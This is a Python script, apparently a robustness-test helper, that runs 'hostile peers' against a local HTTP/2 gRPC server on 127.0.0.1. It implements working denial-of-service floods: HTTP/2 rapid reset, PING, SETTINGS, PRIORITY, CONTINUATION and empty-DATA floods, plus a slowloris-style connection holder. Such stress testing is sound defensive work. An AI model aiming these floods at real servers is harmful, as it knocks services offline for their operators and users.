#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Hostile peers, each a process of its own: attacks.py KIND PORT. It attacks until it is killed, on a new connection
whenever it is cut off."""

import itertools
import socket
import struct
import sys

from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, SETTINGS, header_block, http2_frame
from load import frame

RST_STREAM, PRIORITY, WINDOW_UPDATE, CONTINUATION = 3, 2, 8, 9
CANCEL = struct.pack(">I", 8)
CALL = "/grpc.health.v1.Health/Check"
AT_ONCE = 200  # frames a write


def opening(window=65535):
    return PREFACE + http2_frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))


def calls(headers, reset):
    """Batches of calls that ask for an answer, or take the question back."""
    for first in itertools.count(1, 2 * AT_ONCE):
        batch = b""
        for stream in range(first, first + 2 * AT_ONCE, 2):
            batch += http2_frame(HEADERS, END_HEADERS, stream, headers)
            batch += http2_frame(RST_STREAM, 0, stream, CANCEL) if reset else http2_frame(DATA, END_STREAM, stream, frame(b""))
        yield batch


def for_ever(piece, first=b""):
    return itertools.chain([first], itertools.repeat(piece * AT_ONCE))


def pieces(kind, headers):
    """What is sent after the preface, piece by piece."""
    return {
        "resets": lambda: calls(headers, reset=True),
        "unread": lambda: calls(headers, reset=False),
        "pings": lambda: for_ever(http2_frame(PING, 0, 0, b"whatever")),
        "settings": lambda: for_ever(http2_frame(SETTINGS, 0, 0)),
        "priorities": lambda: for_ever(http2_frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 7))),
        "empty": lambda: for_ever(http2_frame(DATA, 0, 1), http2_frame(HEADERS, END_HEADERS, 1, headers)),
        "continuations": lambda: for_ever(http2_frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 10), http2_frame(HEADERS, 0, 1, headers)),
        "halves": lambda: [],
    }[kind]()


KINDS = ("resets", "unread", "pings", "settings", "priorities", "empty", "continuations", "halves")


def attack(kind, port):
    peer = socket.create_connection(("127.0.0.1", port))
    peer.settimeout(2)  # the server does not read any more
    try:
        peer.sendall(PREFACE[:12] if kind == "halves" else opening())
        for piece in pieces(kind, header_block(CALL, f"127.0.0.1:{port}")):
            peer.sendall(piece)
    except OSError:
        pass
    return peer


def main():
    kind, port = sys.argv[1], int(sys.argv[2])
    held = []
    while True:
        peer = attack(kind, port)
        if kind == "halves" and len(held) < 500:
            held.append(peer)  # and never says more
            continue
        peer.close()
        for other in held:
            other.close()
        held.clear()


if __name__ == "__main__":
    main()
